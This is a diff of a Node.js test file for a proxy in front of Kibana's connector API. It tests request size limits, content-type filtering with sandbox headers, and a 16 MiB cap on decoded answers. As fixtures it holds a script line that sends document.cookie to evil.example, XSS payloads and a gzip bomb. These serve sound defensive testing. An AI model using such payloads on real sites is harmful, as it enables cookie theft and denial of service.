@@ -4,7 +4,8 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
-import { startServer, parseKibanaUrl } from '../server.mjs';
+import { gzipSync } from 'node:zlib';
+import { startServer, parseKibanaUrl, isJsonType } from '../server.mjs';
 import { startFakeKibana } from './fake-kibana.mjs';
 import { loadPackage, rawRequest, closedPortUrl } from './helpers.mjs';
 
@@ -161,12 +162,57 @@ test('the proxy refuses everything but the connector routes, and Kibana sees non
   assert.equal(kibana.requests.length, 1);
 });
 
-test('the proxy: bodies over 1 MB, a Kibana that hangs or is down', async () => {
-  kibana.reset();
-  const big = await post(page, '/api/actions/connector', { body: `{"name":"${'x'.repeat(1024 * 1024)}"}` }).catch((error) => ({ status: 'reset', error }));
-  assert.ok(big.status === 413 || big.status === 'reset', String(big.status));
-  assert.equal(kibana.requests.length, 0);
+/** Kibana's answer to a body over its `server.maxPayload` (1 MiB by default). */
+const TOO_LARGE = { statusCode: 413, error: 'Request Entity Too Large', message: 'Payload content length greater than maximum allowed: 1048576' };
 
+test('bodies over 1 MiB get Kibana\'s 413, declared or streamed, and Kibana sees none of them', async () => {
+  assert.equal(TOO_LARGE.message, pkg.validate('x'.repeat(1024 * 1024 + 1)).kibanaError.message, 'the checker\'s words');
+  const big = `{"name":"${'x'.repeat(1024 * 1024)}"}`;
+  const streamed = (total, piece = 64 * 1024) => new ReadableStream({
+    start() { this.sent = 0; },
+    pull(controller) {
+      if (this.sent >= total) return controller.close();
+      this.sent += piece;
+      controller.enqueue(new TextEncoder().encode('x'.repeat(piece)));
+    },
+  });
+  const cases = [
+    ['with Content-Length', () => post(page, '/api/actions/connector', { body: big })],
+    ['8 MiB with Content-Length', () => post(page, '/api/actions/connector', { body: 'x'.repeat(8 * 1024 * 1024) })],
+    ['chunked, 2 MiB', () => fetch(new URL('/api/actions/connector', page.url), { method: 'POST', headers: { 'kbn-xsrf': 'true', 'content-type': 'application/json' }, body: streamed(2 * 1024 * 1024), duplex: 'half' })],
+    ['chunked, 40 MiB (more than the server drains)', () => fetch(new URL('/api/actions/connector', page.url), { method: 'POST', headers: { 'kbn-xsrf': 'true' }, body: streamed(40 * 1024 * 1024), duplex: 'half' })],
+  ];
+  for (const [what, send] of cases) {
+    kibana.reset();
+    const response = await send().catch((error) => ({ status: `reset (${error.cause?.code ?? error.message})` }));
+    if (what.includes('more than the server drains') && typeof response.status === 'string') {
+      // Past 16 MiB of draining the server hangs up: a reset is all such a client may get.
+      assert.equal(kibana.requests.length, 0);
+      continue;
+    }
+    assert.equal(response.status, 413, what);
+    assert.equal(response.headers.get('x-kibana-connectors-proxy'), 'refused', what);
+    assert.deepEqual(await response.json(), TOO_LARGE, what);
+    assert.equal(kibana.requests.length, 0, what);
+  }
+  // Just under the limit is forwarded.
+  kibana.reset();
+  const exactly = `{"name":"${'x'.repeat(1024 * 1024 - 11)}"}`;
+  assert.equal(Buffer.byteLength(exactly), 1024 * 1024);
+  const fits = await post(page, '/api/actions/connector', { body: exactly });
+  assert.equal(kibana.requests.length, 1);
+  assert.equal(fits.status, 400, 'Kibana\'s own answer (the name is not a connector body)');
+
+  // A raw client that sends its whole over-long body, chunked, and then reads.
+  const host = new URL(page.url).host;
+  const chunk = 'x'.repeat(256 * 1024);
+  const chunks = Array.from({ length: 6 }, () => `${chunk.length.toString(16)}\r\n${chunk}\r\n`).join('');
+  const raw = await rawRequest(page.url, `POST /api/actions/connector HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}0\r\n\r\n`);
+  assert.equal(raw.status, 413);
+  assert.deepEqual(JSON.parse(raw.body), TOO_LARGE);
+});
+
+test('the proxy: a Kibana that hangs or is down', async () => {
   kibana.respondNext({ hang: true });
   const started = Date.now();
   const late = await post(page, '/api/actions/connector');
@@ -183,6 +229,159 @@ test('the proxy: bodies over 1 MB, a Kibana that hangs or is down', async () => 
   } finally {
     down.server.close();
   }
+});
+
+/** Writes `total` bytes of `piece` (a JSON string's inside) as a chunked answer, with
+ *  back-pressure, and records how much was written before the proxy hung up. */
+function streamAnswer(total, record, { piece = 'x'.repeat(64 * 1024), headers = {} } = {}) {
+  return (request, response) => {
+    response.writeHead(200, { 'content-type': 'application/json', ...headers });
+    record.written = 0;
+    record.closed = new Promise((resolve) => response.on('close', resolve));
+    const chunk = Buffer.from(piece);
+    response.write('{"x":"');
+    const more = () => {
+      while (record.written < total && !response.destroyed) {
+        record.written += chunk.length;
+        if (!response.write(chunk)) return response.once('drain', more);
+      }
+      if (!response.destroyed) response.end('"}');
+    };
+    more();
+  };
+}
+
+test('only JSON answers of Kibana pass, as application/json that a browser never runs', async () => {
+  const bad = [
+    ['HTML', 200, 'text/html', '<script>parent.stolen = 1</script>'],
+    ['HTML with a charset', 200, 'text/html; charset=utf-8', '<html><body>secret-in-body</body></html>'],
+    ['a script', 200, 'text/javascript', 'fetch("https://evil.example/?k=" + document.cookie)'],
+    ['a script that is also valid JSON', 200, 'application/javascript', '"use strict"'],
+    ['JSON as text/plain', 200, 'text/plain', '{"id":"x"}'],
+    ['SVG', 200, 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
+    ['application/json-seq', 200, 'application/json-seq', '{"id":"x"}'],
+    ['a lookalike type', 200, 'application/jsonx', '{"id":"x"}'],
+    ['JSON type, HTML body', 200, 'application/json', '<script>alert(1)</script>'],
+    ['JSON type, empty body', 200, 'application/json', ''],
+    ['an error page in HTML', 502, 'text/html', '<html><h1>502 Bad Gateway</h1></html>'],
+    ['no Content-Type', 200, null, '{"id":"x"}'],
+  ];
+  for (const [what, status, contentType, text] of bad) {
+    kibana.reset();
+    kibana.respondNext({
+      handle: (request, response) => {
+        response.writeHead(status, contentType === null ? {} : { 'content-type': contentType });
+        response.end(text);
+      },
+    });
+    const response = await post(page, '/api/actions/connector');
+    assert.equal(response.status, 502, what);
+    assert.equal(response.headers.get('x-kibana-connectors-proxy'), 'bad-answer', what);
+    assert.equal(response.headers.get('content-type'), 'application/json; charset=utf-8', what);
+    assert.equal(response.headers.get('x-content-type-options'), 'nosniff', what);
+    assert.match(response.headers.get('content-security-policy'), /^sandbox(;|$)/, what);
+    const answer = await response.json();
+    assert.equal(answer.statusCode, 502);
+    assert.match(answer.message, new RegExp(`^Kibana answered ${status} with ${contentType === null ? 'no Content-Type' : `Content-Type ${contentType.replace(/[+]/g, '\\+')}`}`), what);
+    assert.match(answer.message, new RegExp(`\\(${Buffer.byteLength(text)} bytes\\)`), what);
+    for (const piece of ['<', 'secret-in-body', 'evil.example', 'use strict', '"id"']) assert.ok(!answer.message.includes(piece), `${what}: the body is not quoted`);
+  }
+
+  // JSON passes, with its parameters or as a +json subtype, re-labelled as application/json.
+  const good = [
+    ['application/json', 200],
+    ['application/json; charset=utf-8', 200],
+    ['Application/JSON;charset=UTF-8', 400],
+    ['application/problem+json', 400],
+    ['application/vnd.elastic+json; compatible-with=8', 409],
+  ];
+  for (const [contentType, status] of good) {
+    kibana.respondNext({
+      handle: (request, response) => {
+        response.writeHead(status, { 'content-type': contentType, 'set-cookie': 'sid=kibana', 'x-powered-by': 'kibana' });
+        response.end('{"statusCode":400,"message":"<img src=x onerror=alert(1)>"}');
+      },
+    });
+    const response = await post(page, '/api/actions/connector');
+    assert.equal(response.status, status, contentType);
+    assert.equal(response.headers.get('x-kibana-connectors-proxy'), null, contentType);
+    assert.equal(response.headers.get('content-type'), 'application/json; charset=utf-8', contentType);
+    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
+    assert.match(response.headers.get('content-security-policy'), /^sandbox(;|$)/);
+    assert.equal(response.headers.get('set-cookie'), null);
+    assert.equal(response.headers.get('x-powered-by'), null);
+    assert.equal((await response.json()).message, '<img src=x onerror=alert(1)>');
+  }
+  // The proxy's own answers have the same headers.
+  const refused = await fetch(new URL('/api/status', page.url));
+  assert.match(refused.headers.get('content-security-policy'), /^sandbox(;|$)/);
+  assert.equal(refused.headers.get('content-type'), 'application/json; charset=utf-8');
+
+  // An empty 204 (Kibana's answer to DELETE) passes as it is.
+  kibana.respondNext({ handle: (request, response) => { response.writeHead(204); response.end(); } });
+  const deleted = await fetch(new URL('/api/actions/connector/x', page.url), { method: 'DELETE', headers: { 'kbn-xsrf': 'true' } });
+  assert.equal(deleted.status, 204);
+  assert.equal(await deleted.text(), '');
+
+  assert.equal(isJsonType('application/json'), true);
+  assert.equal(isJsonType(' application/merge-patch+json ; x=1'), true);
+  for (const type of [null, '', 'json', 'text/json', 'application/+json', 'application/json+xml', 'application/x-json', 'text/html; x=application/json']) assert.equal(isJsonType(type), false, type);
+});
+
+test('Kibana\'s answer is capped at 16 MiB once decoded, counted while it streams', async () => {
+  // A gzip bomb: 40 KiB on the wire, 40 MiB of JSON once decoded.
+  const bomb = gzipSync(`{"x":"${'x'.repeat(40 * 1024 * 1024)}"}`);
+  assert.ok(bomb.length < 100 * 1024);
+  kibana.respondNext({
+    handle: (request, response) => {
+      response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip', 'content-length': bomb.length });
+      response.end(bomb);
+    },
+  });
+  const before = process.memoryUsage().arrayBuffers;
+  const exploded = await post(page, '/api/actions/connector');
+  assert.equal(exploded.status, 502);
+  assert.equal(exploded.headers.get('x-kibana-connectors-proxy'), 'bad-answer');
+  assert.match((await exploded.json()).message, /^Kibana answered 200 with more than 16 MiB/);
+  assert.ok(process.memoryUsage().arrayBuffers - before < 48 * 1024 * 1024, 'the decoded answer is not kept whole');
+
+  // A chunked answer without Content-Length: the proxy stops reading (and hangs up) at the cap.
+  const record = {};
+  kibana.respondNext({ handle: streamAnswer(200 * 1024 * 1024, record) });
+  const endless = await post(page, '/api/actions/connector');
+  assert.equal(endless.status, 502);
+  assert.match((await endless.json()).message, /more than 16 MiB/);
+  await record.closed;
+  assert.ok(record.written < 64 * 1024 * 1024, `Kibana wrote ${record.written} bytes before the proxy hung up`);
+
+  // A Content-Length over the cap is refused before reading.
+  kibana.respondNext({
+    handle: (request, response) => {
+      response.writeHead(200, { 'content-type': 'application/json', 'content-length': 17 * 1024 * 1024 });
+      response.write('{"x":"');
+    },
+  });
+  const declared = await post(page, '/api/actions/connector');
+  assert.equal(declared.status, 502);
+  assert.match((await declared.json()).message, /more than 16 MiB/);
+
+  // Under the cap, gzip or chunked, the answer passes whole.
+  const record2 = {};
+  kibana.respondNext({ handle: streamAnswer(8 * 1024 * 1024, record2, { headers: { 'content-type': 'application/json; charset=utf-8' } }) });
+  const large = await post(page, '/api/actions/connector');
+  assert.equal(large.status, 200);
+  assert.equal((await large.json()).x.length, 8 * 1024 * 1024);
+  const small = gzipSync('{"id":"zipped"}');
+  kibana.respondNext({
+    handle: (request, response) => {
+      response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
+      response.end(small);
+    },
+  });
+  const zipped = await post(page, '/api/actions/connector');
+  assert.equal(zipped.status, 200);
+  assert.equal(zipped.headers.get('content-encoding'), null);
+  assert.deepEqual(await zipped.json(), { id: 'zipped' });
 });
 
 test('without KIBANA_URL, sending is off and the answer says how to turn it on', async () => {
